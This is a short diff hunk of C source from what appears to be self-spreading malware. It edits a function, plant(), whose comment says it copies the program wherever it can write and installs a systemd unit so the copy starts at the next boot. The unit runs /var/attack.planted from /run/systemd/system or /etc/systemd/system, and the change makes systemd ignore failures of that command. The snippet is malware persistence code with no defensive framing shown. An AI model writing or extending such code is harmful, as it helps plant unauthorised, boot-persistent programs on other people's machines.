@@ -187,7 +187,7 @@ static void look(void)
 /* A copy of this program wherever files can be, and a unit that would start one at the next boot. */
 static void plant(void)
 {
-	static const char unit[] = "[Service]\nExecStart=/var/attack.planted\n[Install]\nWantedBy=multi-user.target\n";
+	static const char unit[] = "[Service]\nExecStart=-/var/attack.planted\n[Install]\nWantedBy=multi-user.target\n";
 	static const char *const folders[] = { "/run/systemd/system", "/etc/systemd/system" };
 	static char bytes[1 << 20];
 	char path[256], link[256];
